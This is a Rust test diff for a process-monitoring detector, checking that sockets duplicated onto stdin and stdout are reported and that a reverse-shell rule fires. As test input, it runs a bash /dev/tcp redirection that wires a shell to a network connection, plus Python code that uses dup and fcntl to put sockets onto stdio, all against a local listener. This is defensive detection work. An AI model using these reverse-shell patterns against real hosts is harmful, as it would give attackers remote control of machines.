@@ -104,3 +104,65 @@ fn tampering_and_privilege_events_with_findings() {
     });
     assert_eq!(s(&f[0], "severity_text"), "FATAL");
 }
+
+/// A socket duplicated onto stdin/stdout is seen whatever the call (dup2, dup, fcntl F_DUPFD), and a
+/// shell that wires itself to a connection without executing anything matches the reverse-shell rule;
+/// redirections to files and pipes are not events.
+#[test]
+fn sockets_duplicated_onto_stdio() {
+    let ex = Exporter::start(&["events"]);
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let accept = std::thread::spawn(move || {
+        // Hold every connection open until the shells are done with it.
+        let mut held = Vec::new();
+        for _ in 0..3 {
+            held.push(listener.accept().unwrap().0);
+        }
+        std::thread::sleep(Duration::from_secs(2));
+    });
+    let dup = |pid: i64, call: &'static str| {
+        move |e: &serde_json::Value| {
+            s(e, "event.name") == "tripline.process.stdio_socket"
+                && i(e, "process.pid") == pid
+                && s(e, "tripline.syscall.name") == call
+        }
+    };
+
+    // bash redirecting its own stdin and stdout to /dev/tcp: two dup2 calls, no exec after them.
+    let sh = common::run_ok(
+        "/bin/bash",
+        &[
+            "-c",
+            &format!("exec 0<>/dev/tcp/127.0.0.1/{port} 1>&0; exec 3>/dev/null 2>&3; true"),
+        ],
+    );
+    let e = ex.wait_events("dup2 onto stdout", WAIT, |e| {
+        dup(sh, "dup2")(e) && i(e, "tripline.stdio.fd") == 1
+    });
+    assert_eq!(e[0]["tripline.stdio.socket_fds"], serde_json::json!(["0", "1"]));
+    assert_eq!(e[0]["tripline.process.stdio_socket"], serde_json::json!(true));
+    ex.wait_events("reverse shell rule", WAIT, |e| {
+        s(e, "security_rule.name") == "reverse_shell_stdio_socket" && i(e, "process.pid") == sh
+    });
+    // fd 2 went to /dev/null, not a socket: no event for it.
+    assert!(ex
+        .events_where(|e| dup(sh, "dup2")(e) && i(e, "tripline.stdio.fd") == 2)
+        .is_empty());
+
+    // C style: close stdin, dup(2) lands on it; fcntl(F_DUPFD, 0) lands on the lowest free fd (Python's
+    // os.dup is F_DUPFD_CLOEXEC, so libc's dup is called directly).
+    let py = python(&format!(
+        "import ctypes,os,socket,fcntl\ns=socket.create_connection(('127.0.0.1',{port}))\n\
+         os.close(0)\nassert ctypes.CDLL(None).dup(s.fileno())==0\n\
+         t=socket.create_connection(('127.0.0.1',{port}))\n\
+         os.close(1)\nassert fcntl.fcntl(t.fileno(),fcntl.F_DUPFD,0)==1\nos.close(1)\n"
+    ));
+    ex.wait_events("dup onto stdin", WAIT, |e| {
+        dup(py, "dup")(e) && i(e, "tripline.stdio.fd") == 0
+    });
+    ex.wait_events("F_DUPFD onto stdout", WAIT, |e| {
+        dup(py, "fcntl")(e) && i(e, "tripline.stdio.fd") == 1
+    });
+    accept.join().unwrap();
+}
